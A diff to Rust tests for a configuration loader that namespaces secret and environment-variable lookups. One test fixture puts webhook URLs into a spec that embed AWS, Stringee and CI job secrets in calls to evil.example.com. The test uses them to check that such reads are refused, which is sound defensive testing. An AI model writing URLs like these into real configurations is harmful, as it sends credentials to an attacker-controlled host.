@@ -38,9 +38,9 @@ fn numbers(number: &str) -> String {
 
 fn process(name: &str) -> Option<String> {
     match name {
-        "CRM_TOKEN" => Some(SECRET.to_owned()),
-        "EMPTY" => Some(String::new()),
-        "REGION" => Some("eu".to_owned()),
+        "SWITCHBOARD_SECRET_CRM_TOKEN" => Some(SECRET.to_owned()),
+        "SWITCHBOARD_SECRET_EMPTY" => Some(String::new()),
+        "SWITCHBOARD_VAR_REGION" => Some("eu".to_owned()),
         _ => None,
     }
 }
@@ -369,7 +369,7 @@ settings:
     let asked = std::cell::RefCell::new(Vec::new());
     let process = |name: &str| {
         asked.borrow_mut().push(name.to_owned());
-        Some(if name == "REGION" {
+        Some(if name == "SWITCHBOARD_VAR_REGION" {
             "eu".to_owned()
         } else {
             SECRET.to_owned()
@@ -404,23 +404,37 @@ settings:
         "{refused:#?}"
     );
     // Not even read: only the harmless variable was asked for.
-    assert_eq!(*asked.borrow(), ["REGION"]);
+    assert_eq!(*asked.borrow(), ["SWITCHBOARD_VAR_REGION"]);
     render(&loaded);
 }
 
 #[test]
-fn the_keys_own_secrets_never_go_into_a_webhook_url() {
-    // A URL PCC calls is sent to whoever it names: with the API key's secret in it, a merged
-    // pull request would hand the key to its own server on the first call event.
+fn a_secret_or_env_reads_only_its_switchboard_variable_never_the_runners() {
+    // A URL PCC calls is sent to whoever it names: with the runner's credential in it (its
+    // cloud key, its job token, switchboard's own key), a merged pull request would hand it
+    // to its own server on the first call event. Every one of them is set here; only the
+    // variables the operator set for the spec are read.
     let spec = r#"settings:
-  event_url: "https://evil.example.com/e?x=${secret.STRINGEE_API_KEY_SECRET}"
-  get_customer_info_url: "https://evil.example.com/${secret.STRINGEE_ACCOUNT_KEY_SECRET}"
-  callout_answer_url: "https://crm.example.com/a?t=${secret.CRM_TOKEN}"
+  event_url: "https://evil.example.com/e?x=${secret.AWS_SECRET_ACCESS_KEY}"
+  get_customer_info_url: "https://evil.example.com/${secret.STRINGEE_API_KEY_SECRET}"
+  callout_answer_url: "https://evil.example.com/a?t=${secret.CI_JOB_TOKEN}"
+queues:
+  q:
+    get_list_agents_url: "https://crm.example.com/${env.REGION}/a?t=${secret.CRM_TOKEN}"
 "#;
     let asked = std::cell::RefCell::new(Vec::new());
     let process = |name: &str| {
         asked.borrow_mut().push(name.to_owned());
-        Some(SECRET.to_owned())
+        match name {
+            "SWITCHBOARD_SECRET_CRM_TOKEN" => Some("crm-token-for-the-spec".to_owned()),
+            "SWITCHBOARD_VAR_REGION" => Some("eu".to_owned()),
+            "AWS_SECRET_ACCESS_KEY"
+            | "STRINGEE_API_KEY_SECRET"
+            | "CI_JOB_TOKEN"
+            | "CRM_TOKEN"
+            | "REGION" => Some(SECRET.to_owned()),
+            _ => None,
+        }
     };
     let sources = [Source {
         path: "spec.yaml".to_owned(),
@@ -433,28 +447,52 @@ fn the_keys_own_secrets_never_go_into_a_webhook_url() {
         &|_| Err("no such file".to_owned()),
     );
     assert!(loaded.spec.is_none());
-    let refused: Vec<(u32, &str)> = loaded
+    let refused: Vec<(u32, &str, Option<&str>)> = loaded
         .diagnostics
         .iter()
-        .filter(|d| d.code == crate::diagnostic::code::SUBSTITUTION)
-        .map(|d| (d.labels[0].line, d.message.as_str()))
+        .map(|d| (d.labels[0].line, d.message.as_str(), d.help.as_deref()))
         .collect();
     assert_eq!(
         refused,
         [
             (
                 2,
-                "`${secret.STRINGEE_API_KEY_SECRET}` is the secret of the key switchboard \
-                 signs its requests with, which never goes into a value"
+                "environment variable `SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY` is not set",
+                Some(
+                    "`${secret.AWS_SECRET_ACCESS_KEY}` reads only \
+                     `SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY`: set it where switchboard runs \
+                     (a CI secret, say)"
+                )
             ),
             (
                 3,
-                "`${secret.STRINGEE_ACCOUNT_KEY_SECRET}` is the secret of the key switchboard \
-                 signs its requests with, which never goes into a value"
+                "environment variable `SWITCHBOARD_SECRET_STRINGEE_API_KEY_SECRET` is not set",
+                Some(
+                    "`${secret.STRINGEE_API_KEY_SECRET}` reads only \
+                     `SWITCHBOARD_SECRET_STRINGEE_API_KEY_SECRET`: set it where switchboard \
+                     runs (a CI secret, say)"
+                )
+            ),
+            (
+                4,
+                "environment variable `SWITCHBOARD_SECRET_CI_JOB_TOKEN` is not set",
+                Some(
+                    "`${secret.CI_JOB_TOKEN}` reads only `SWITCHBOARD_SECRET_CI_JOB_TOKEN`: set \
+                     it where switchboard runs (a CI secret, say)"
+                )
             ),
         ]
     );
-    assert_eq!(*asked.borrow(), ["CRM_TOKEN"]);
+    assert_eq!(
+        *asked.borrow(),
+        [
+            "SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY",
+            "SWITCHBOARD_SECRET_STRINGEE_API_KEY_SECRET",
+            "SWITCHBOARD_SECRET_CI_JOB_TOKEN",
+            "SWITCHBOARD_VAR_REGION",
+            "SWITCHBOARD_SECRET_CRM_TOKEN",
+        ]
+    );
     render(&loaded);
 }
 
